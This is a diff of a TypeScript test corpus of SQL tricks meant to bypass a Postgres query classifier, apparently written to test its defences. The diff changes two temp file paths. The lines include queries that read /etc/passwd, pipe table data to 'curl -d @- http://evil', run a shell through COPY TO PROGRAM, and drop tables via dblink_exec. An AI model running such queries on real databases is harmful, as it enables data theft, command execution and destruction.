@@ -58,7 +58,7 @@ export const BYPASS_CORPUS: BypassAttempt[] = [
   { trick: "function hidden in subquery", sql: "SELECT (SELECT pg_stat_file('/etc/passwd'))" },
   { trick: "function in ORDER BY", sql: "SELECT id FROM accounts ORDER BY pg_ls_dir('.')" },
   { trick: "large object import", sql: "SELECT lo_import('/etc/passwd')" },
-  { trick: "large object export", sql: "SELECT lo_export(1234, '/tmp/x')" },
+  { trick: "large object export", sql: "SELECT lo_export(1234, '/tmp/custos-bypass-lo-export')" },
   { trick: "dblink", sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)" },
   { trick: "dblink_exec", sql: "SELECT dblink_exec('dbname=x', 'DROP TABLE accounts')" },
   {
@@ -92,7 +92,7 @@ export const BYPASS_CORPUS: BypassAttempt[] = [
   { trick: "COPY TO PROGRAM", sql: "COPY accounts TO PROGRAM 'curl -d @- http://evil'" },
   { trick: "COPY query TO PROGRAM", sql: "COPY (SELECT * FROM accounts) TO PROGRAM 'sh'" },
   { trick: "COPY FROM PROGRAM", sql: "COPY accounts FROM PROGRAM 'cat /etc/passwd'" },
-  { trick: "COPY to server file", sql: "COPY accounts TO '/tmp/accounts.csv'" },
+  { trick: "COPY to server file", sql: "COPY accounts TO '/tmp/custos-bypass-accounts.csv'" },
   { trick: "COPY FROM STDIN writes", sql: "COPY accounts FROM STDIN" },
   // settings that change what the classifier assumes
   { trick: "search_path change", sql: "SET search_path = secret, public" },
